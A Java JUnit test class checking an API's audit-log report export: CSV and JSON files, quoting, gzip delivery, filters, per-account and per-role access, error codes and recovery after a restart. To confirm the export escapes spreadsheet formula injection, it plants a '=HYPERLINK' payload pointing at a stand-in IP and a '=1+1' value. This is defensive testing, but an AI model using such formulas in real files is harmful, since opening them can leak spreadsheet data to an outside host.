package io.trunkline.blackbox;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.time.temporal.ChronoUnit;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.StreamSupport;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** GetAuditLogAsync, GetHistoryReports and DownloadHistoryReport (contract section 4.5). */
@OwnServer
@ExtendWith(Target.Resolver.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HistoryReportsTest {

    private static final DateTimeFormatter FORM = DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss", Locale.ROOT);
    private static final String FORMULA = "=HYPERLINK(\"http://192.0.2.1/?\"&A1, \"click\")";
    private static final List<String> COLUMNS = List.of(
            "audit_log_id",
            "account_id",
            "subuser_id",
            "subuser_name",
            "requested",
            "ip",
            "cmd_name",
            "cmd_args",
            "actor_kind",
            "actor_id",
            "user_agent");

    private final Target target;
    private final Api owner;

    /** Makes an account whose log has six entries: two of the command line, then those of these calls. */
    HistoryReportsTest(Target target) {
        this.target = target;
        owner = target.newAccount();
        owner.set("account_first_name", "Ada", "min_balance_to_notify", "2.50", "news_notifications", "true")
                .assertDone();
        owner.set("billing_address_address", "Straße 1, \"Hof\"\r\n10115 Berlin")
                .assertDone();
        owner.send(Form.URLENCODED
                        .request("SetAccountInfo", Map.of("account_last_name", "=1+1"))
                        .authorized(owner.token())
                        .with("User-Agent: " + FORMULA))
                .assertDone();
        owner.set("new_account_password", Passwords.next()).assertDone();
    }

    @AfterAll
    void close() {
        owner.close();
    }

    private static Map<String, String> sinceYesterday(String... namesAndValues) {
        LocalDateTime now = LocalDateTime.now(ZoneOffset.UTC);
        Map<String, String> parameters = new LinkedHashMap<>();
        parameters.put("from_date", FORM.format(now.minusDays(1)));
        parameters.put("to_date", FORM.format(now.plusDays(1)));
        parameters.putAll(Api.parameters(namesAndValues));
        return parameters;
    }

    private Answer call(String method, String... namesAndValues) {
        return owner.call(Form.URLENCODED, method, Api.parameters(namesAndValues));
    }

    private static long request(Api api, String... namesAndValues) {
        Answer answer = api.call(Form.URLENCODED, "GetAuditLogAsync", sinceYesterday(namesAndValues));
        assertThat(answer.result().intValue()).as(answer.text()).isEqualTo(1);
        return answer.json().get("history_report_id").longValue();
    }

    /** The report as GetHistoryReports shows it, once it is completed. */
    private static JsonNode completed(Api api, long id) {
        Map<String, String> query = Map.of("history_report_id", Long.toString(id), "is_completed", "true");
        Poll.until(
                "report " + id + " is completed",
                () -> !api.call(Form.URLENCODED, "GetHistoryReports", query)
                        .result()
                        .isEmpty());
        return api.call(Form.URLENCODED, "GetHistoryReports", query).result().get(0);
    }

    private static Answer download(Api api, long id, String... headers) {
        Request request = Form.URLENCODED
                .request("DownloadHistoryReport", Map.of("history_report_id", Long.toString(id)))
                .authorized(api.token());
        for (String header : headers) {
            request = request.with(header);
        }
        return api.send(request);
    }

    /** Asks for a report and gets its file. */
    private Answer file(String... namesAndValues) {
        long id = request(owner, namesAndValues);
        completed(owner, id);
        return download(owner, id);
    }

    private JsonNode log(String... namesAndValues) {
        return owner.call(Form.URLENCODED, "GetAuditLog", sinceYesterday(namesAndValues))
                .result();
    }

    @Test
    void theCsvFileHoldsWhatGetAuditLogShows() {
        List<List<String>> lines = CsvReader.read(file().text());

        assertThat(lines.getFirst()).isEqualTo(COLUMNS);
        JsonNode entries = log();
        assertThat(entries.size()).isEqualTo(6);
        assertThat(lines).hasSize(7);
        for (int i = 0; i < entries.size(); i++) {
            for (int column = 0; column < COLUMNS.size(); column++) {
                JsonNode value = entries.get(i).path(COLUMNS.get(column));
                String expected = value.isObject() ? value.toString() : value.asString("");
                // The formula is a text for spreadsheets.
                assertThat(lines.get(i + 1).get(column))
                        .as(COLUMNS.get(column))
                        .isEqualTo(expected.equals(FORMULA) ? "'" + FORMULA : expected);
            }
        }
    }

    @Test
    void whatCsvGivesAMeaningIsQuoted() {
        String text = file("audit_log_id", "4;5;6").text();

        assertThat(text)
                .contains(
                        "\"'=HYPERLINK(\"\"http://192.0.2.1/?\"\"&A1, \"\"click\"\")\"\r\n",
                        "\"{\"\"account_last_name\"\":\"\"=1+1\"\"}\"",
                        "Straße 1, \\\"\"Hof\\\"\"\\r\\n10115 Berlin")
                .contains("\"\"new_account_password\"\":\"\"***\"\"")
                .endsWith("\r\n");
        assertThat(text.lines()).hasSize(4);
    }

    /** As clients of the older documents ask for it (contract section 4.5). */
    @Test
    void getAuditLogMakesAFileIfItIsAskedForOne() {
        Answer asked = owner.call(
                Form.URLENCODED,
                "GetAuditLog",
                sinceYesterday("is_async", "true", "output", "csv", "with_header", "false", "with_bom", "true"));
        assertThat(asked.result().intValue()).isEqualTo(1);
        long id = asked.json().get("history_report_id").longValue();
        completed(owner, id);
        assertThat(download(owner, id).text())
                .isEqualTo("\ufeff" + file("with_header", "false").text());
    }

    @Test
    void theJsonFileIsTheResultOfGetAuditLog() {
        Answer answer = file("output", "json");

        assertThat(answer.json()).isEqualTo(log());
        assertThat(answer.header("content-disposition")).matches("attachment; filename=\"audit-\\d+\\.json\"");
        assertThat(file("output", "json", "filtered_cmd", "Nothing").json()).isEmpty();
    }

    @Test
    void filtersOrderPagesAndTheHeaderAreThoseOfTheCall() {
        assertThat(CsvReader.read(file("filtered_cmd", "setaccountinfo", "with_header", "false")
                        .text()))
                .extracting(List::getFirst)
                .containsExactly("3", "4", "5", "6");
        assertThat(CsvReader.read(
                        file("desc_order", "1", "count", "2", "offset", "1").text()))
                .extracting(List::getFirst)
                .containsExactly("audit_log_id", "5", "4");
        List<List<String>> inTokyo = CsvReader.read(
                file("timezone", "Asia/Tokyo", "audit_log_id", "3").text());
        assertThat(inTokyo.get(1).get(COLUMNS.indexOf("requested")))
                .isEqualTo(log("timezone", "Asia/Tokyo", "audit_log_id", "3")
                        .get(0)
                        .get("requested")
                        .stringValue());
    }

    @Test
    void theFileIsSentAsItIsStoredToWhoUnderstandsGzip() throws IOException {
        long id = request(owner);
        JsonNode report = completed(owner, id);

        Answer plain = download(owner, id);
        Answer zipped = download(owner, id, "Accept-Encoding: deflate, gzip;q=0.5");
        Answer refused = download(owner, id, "Accept-Encoding: gzip;q=0, identity");

        assertThat(plain.header("content-type")).isEqualTo("application/octet-stream");
        assertThat(plain.header("content-disposition")).isEqualTo("attachment; filename=\"audit-" + id + ".csv\"");
        assertThat(plain.header("content-length"))
                .isEqualTo(report.get("file_size").asString());
        assertThat(plain.has("content-encoding")).isFalse();
        assertThat(zipped.header("content-type")).isEqualTo("application/octet-stream");
        assertThat(zipped.header("content-encoding")).isEqualTo("gzip");
        assertThat(zipped.header("content-length"))
                .isEqualTo(report.get("download_size").asString());
        assertThat(zipped.header("vary")).isEqualTo("Accept-Encoding");
        assertThat(new GZIPInputStream(new ByteArrayInputStream(zipped.body())).readAllBytes())
                .isEqualTo(plain.body());
        assertThat(refused.body()).isEqualTo(plain.body());
    }

    @Test
    void reportsAreListedWithAllThatIsKnownOfThem() {
        Api api = target.newAccount();
        try (api) {
            long first = request(api, "filtered_cmd", "CreateKey", "audit_log_id", "1;2");
            long second = request(api, "output", "json");
            completed(api, second);
            JsonNode report = completed(api, first);
            assertThat(download(api, first).status()).isEqualTo(200);

            assertThat(List.of(first, second)).containsExactly(1L, 2L);
            assertThat(report.get("history_type").stringValue()).isEqualTo("audit");
            assertThat(report.get("format").stringValue()).isEqualTo("csv");
            assertThat(report.get("file_name").stringValue()).isEqualTo("audit-1.csv");
            assertThat(report.get("download_count").intValue()).isZero();
            assertThat(report.has("last_downloaded")).isFalse();
            assertThat(report.get("created").stringValue()).matches("\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d");
            assertThat(report.get("completed").stringValue()).matches("\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d");
            assertThat(report.get("store_until").stringValue()).matches("\\d{4}-\\d\\d-\\d\\d");
            JsonNode filters =
                    JsonMapper.shared().readTree(report.get("filters").stringValue());
            assertThat(filters.get("filtered_cmd").get(0).stringValue()).isEqualTo("createkey");
            assertThat(filters.get("timezone").stringValue()).isEqualTo("UTC");
            assertThat(JsonMapper.shared()
                            .readTree(report.get("calculated_data").stringValue())
                            .toString())
                    .isEqualTo("{\"row_count\":0,\"cut\":false}");
            JsonNode downloaded = completed(api, first);
            assertThat(downloaded.get("download_count").intValue()).isEqualTo(1);
            assertThat(downloaded.has("last_downloaded")).isTrue();
            assertThat(ids(api)).containsExactly(1L, 2L);
            assertThat(ids(api, "desc_order", "true", "count", "1")).containsExactly(2L);
            assertThat(ids(api, "offset", "1")).containsExactly(2L);
            assertThat(ids(api, "history_type", "calls;AUDIT", "is_completed", "1"))
                    .containsExactly(1L, 2L);
            assertThat(ids(api, "history_type", "calls;call_list")).isEmpty();
            assertThat(ids(api, "history_type", "all", "history_report_id", "2"))
                    .containsExactly(2L);
            assertThat(ids(api, "is_completed", "false")).isEmpty();
            assertThat(ids(api, "created_from", "2100-01-01 00:00:00")).isEmpty();
            assertThat(ids(api, "created_to", downloaded.get("created").stringValue(), "count", "1"))
                    .containsExactly(1L);
        }
    }

    private static List<Long> ids(Api api, String... namesAndValues) {
        Answer answer = api.call(Form.URLENCODED, "GetHistoryReports", Api.parameters(namesAndValues));
        assertThat(answer.json().get("count").intValue())
                .isEqualTo(answer.result().size());
        return StreamSupport.stream(answer.result().spliterator(), false)
                .map(report -> report.get("history_report_id").longValue())
                .toList();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            GetAuditLogAsync      | from_date         |                     | 485
            GetAuditLogAsync      | to_date           | 2000-01-01 00:00:00 | 123
            GetAuditLogAsync      | from_date         | 2000-01-01 00:00:00 | 569
            GetAuditLogAsync      | timezone          | Middle/Earth        | 496
            GetAuditLogAsync      | audit_log_id      | one                 | 496
            GetAuditLogAsync      | with_header       | perhaps             | 496
            GetAuditLogAsync      | with_bom          | perhaps             | 496
            GetAuditLogAsync      | decimal_separator | ;                   | 496
            GetAuditLogAsync      | output            | xls                 | 105
            GetAuditLogAsync      | output            | CSV                 | 105
            GetAuditLogAsync      | count             | 100001              | 497
            GetAuditLogAsync      | offset            | -1                  | 497
            GetAuditLog           | output            | csv                 | 105
            GetHistoryReports     | history_type      | calls;faxes         | 371
            GetHistoryReports     | history_report_id | one                 | 496
            GetHistoryReports     | created_from      | yesterday           | 111
            GetHistoryReports     | created_to        | 2026-02-30 00:00:00 | 111
            GetHistoryReports     | is_completed      | perhaps             | 496
            GetHistoryReports     | desc_order        | perhaps             | 496
            GetHistoryReports     | count             | 0                   | 497
            GetHistoryReports     | output            | csv                 | 105
            DownloadHistoryReport | history_report_id |                     | 485
            DownloadHistoryReport | history_report_id | one                 | 496
            DownloadHistoryReport | history_report_id | 0                   | 355
            DownloadHistoryReport | history_report_id | 999                 | 355
            DownloadHistoryReport | output            | csv                 | 105
            """)
    void badInputIsNamed(String method, String name, String value, int code) {
        Map<String, String> parameters = sinceYesterday(name, value == null ? "" : value);
        if (!method.startsWith("GetAuditLog")) {
            parameters.remove("from_date");
            parameters.remove("to_date");
        }

        Answer answer = owner.call(Form.URLENCODED, method, parameters);

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.header("content-type")).isEqualTo("application/json; charset=utf-8");
        assertThat(answer.code()).as(answer.text()).isEqualTo(code);
        assertThat(answer.field()).as(answer.text()).isIn(name, "to_date");
        assertThat(answer.hint()).as(answer.text()).isNotBlank();
    }

    @Test
    void reportsOfOtherAccountsAreNotThere() {
        for (int i = 0; i < 2; i++) {
            completed(owner, request(owner));
        }
        try (Api other = target.newAccount()) {
            assertThat(ids(other)).isEmpty();
            Refusal.assertThat(download(other, 1), 355, "history_report_id");
            Refusal.assertThat(download(other, 2), 355, "history_report_id");
            completed(other, request(other));
            assertThat(download(other, 1).text())
                    .doesNotContain(owner.credentials().keyId());
        }
    }

    @Test
    void aReportOnTheAuditLogIsForThoseWhoMayReadTheLog() {
        long id = request(owner);
        completed(owner, id);
        for (String role : List.of("Admin", "Supervisor", "Accountant", "Payer")) {
            Credentials key = Credentials.parse(
                    call("CreateKey", "role_name", role).result().toString());
            try (Api api = new Api(owner.base(), key)) {
                assertThat(completed(api, id).get("download_count").intValue()).isZero();
                Answer answer = download(api, id);
                Refusal.assertThat(answer, 104);
                assertThat(answer.hint()).contains("Owner", role);
                Refusal.assertThat(api.call(Form.URLENCODED, "GetAuditLogAsync", sinceYesterday()), 104);
            } finally {
                call("DeleteKey", "key_id", key.keyId()).assertDone();
            }
        }
    }

    @Test
    void whatWasAskedForIsMadeAfterARestart() throws Exception {
        try (Folder folder = Folder.create()) {
            long pending;
            try (ServerProcess server = ServerProcess.start(folder.path());
                    Api api = server.owner()) {
                pending = request(api);
                completed(api, pending);
            }
            try (AuditTrail database = AuditTrail.ofSqlite(folder.path().resolve("data/trunkline.db"))) {
                // As a server that was killed leaves it.
                database.change("UPDATE history_reports SET state = 'PENDING', finished = NULL, store_until = NULL");
                database.change("INSERT INTO history_report_parts SELECT account_id, report_id, 1, x'00'"
                        + " FROM history_reports");
                database.change("INSERT INTO history_reports (account_id, report_id, history_type, format, with_header,"
                        + " filters, created, state, attempts, leased_until, download_count) SELECT account_id, 8, 'audit',"
                        + " 'CSV', 1, '{', created, 'PENDING', 0, 0, 0 FROM history_reports");
                // As one that another server works on, for 20 seconds at most.
                database.change("INSERT INTO history_reports (account_id, report_id, history_type, format, with_header,"
                        + " filters, created, state, attempts, leased_until, download_count) SELECT account_id, 9, 'audit',"
                        + " 'CSV', 1, filters, created, 'PENDING', 0, "
                        + ChronoUnit.MICROS.between(Instant.EPOCH, Instant.now().plusSeconds(20))
                        + ", 0 FROM history_reports WHERE report_id = 1");
            }
            try (ServerProcess server = ServerProcess.start(folder.path());
                    Api api = server.owner()) {
                Answer unfinished = download(api, 9);
                Refusal.assertThat(unfinished, 356);
                assertThat(unfinished.hint()).contains("GetHistoryReports");
                assertThat(completed(api, pending).get("file_size").intValue()).isPositive();
                assertThat(CsvReader.read(download(api, pending).text()).getFirst())
                        .isEqualTo(COLUMNS);

                Poll.until(
                        "the broken report is given up", () -> download(api, 8).code() == 357);
                Refusal.assertThat(download(api, 8), 357);
                assertThat(ids(api, "is_completed", "false")).containsExactly(8L, 9L);
            }
        }
    }

    @Test
    void theDocumentDescribesTheFile() {
        JsonNode answer = owner.send(Request.get("/openapi.json"))
                .json()
                .at("/paths/~1DownloadHistoryReport/post/responses/200/content");

        assertThat(answer.propertyNames()).containsExactlyInAnyOrder("application/octet-stream", "application/json");
        assertThat(answer.at("/application~1octet-stream/schema/format").stringValue())
                .isEqualTo("binary");
        assertThat(new String(file().body(), StandardCharsets.UTF_8)).startsWith("audit_log_id,");
    }
}
